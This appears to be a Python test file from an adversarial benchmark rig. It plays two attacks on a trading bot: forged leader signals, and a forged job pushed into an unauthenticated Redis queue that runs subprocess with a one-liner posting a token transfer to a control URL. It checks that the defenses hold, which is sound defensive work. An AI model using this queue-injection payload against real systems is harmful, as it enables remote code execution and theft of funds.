"""Attacks by whoever reaches the server: a signal of nobody's leader, a job that names another function."""

import sys
import threading

from redis.exceptions import RedisError
from rq import Queue
from rq.job import Job
from rq.serializers import JSONSerializer

from benchmarks.rigs.adversary.scenario import Scenario
from benchmarks.rigs.adversary.stage import FAIR, Stage
from benchmarks.rigs.adversary.stand_ins import nothing
from redeemer.composition import build_worker
from redeemer.config import parse_args
from redeemer.jobs.queue import bytes_connection
from shared.redis.client import connect_redis

NOBODY = "0x" + "66" * 20
THIEF = (
    "import sys, urllib.request as u;"
    "u.urlopen(u.Request(sys.argv[1], sys.argv[2].encode(), {'Content-Type': 'application/json'}))"
)
"""A program that pulls one lever of the venue: it moves tokens, as whoever has the key of their wallet can."""


def forged_entry(stage: Stage) -> None:
    """Write signals of a wallet that nobody follows; whoever does sells us what is worth 0.10."""
    stage.book(*FAIR)
    stage.notes.append(_without_password(stage))
    with stage.buyer():
        stage.begin("0.1")
        stage.decided(*(stage.leader("BUY", "100", "0.5", leader=NOBODY) for _ in range(3)))


def forged_job(stage: Stage) -> None:
    """Write a job for the redeemer's worker that names a function of its own: it sends our shares away."""
    stage.book(*FAIR)
    with stage.buyer():
        stage.decided(stage.leader("BUY", "100", "0.5"))
        (lot,) = stage.lots
    stage.begin("0.49")
    taken = f'{{"wallet": "{stage.world.wallet}", "token": "{stage.token}", "shares": "-{lot.shares / 1_000_000}"}}'
    post = [sys.executable, "-c", THIEF, f"{stage.world.urls['control_url']}/account", taken]
    connection = bytes_connection(stage.world.redis)
    settings = parse_args(["--no-live", "--dry-run"])
    Queue(settings.redeem_queue, connection=connection, serializer=JSONSerializer).enqueue_call(
        "subprocess.check_call", args=(post,)
    )  # pyright: ignore[reportUnknownMemberType] - rq leaves it untyped
    build_worker(settings, stop=threading.Event()).burst(threading.Event())


def _without_password(stage: Stage) -> str:
    """Say what somebody gets to hear who knows the server's port alone."""
    bare = connect_redis(stage.world.server.url.partition("?")[0])
    try:
        bare.ping()
    except RedisError as error:
        return f"without its password the server says {type(error).__name__}"
    return "the server asks for no password"


SCENARIOS = (
    Scenario(
        name="forged entry",
        pitfall=49,
        play=forged_entry,
        disarm={"buyer.leader_check:LeaderCheck.refusal": nothing},
        beside={"STAKE_WINDOW_S": "0"},
        bound="0",
        why="nothing is bought",
    ),
    Scenario(
        name="forged job",
        pitfall=49,
        play=forged_job,
        disarm={
            "redeemer.jobs.allowed_job:AllowedJob.problem": "",
            "redeemer.jobs.allowed_job:AllowedJob.func": Job.func,
        },
        bound="0",
        why="nothing is run",
    ),
)
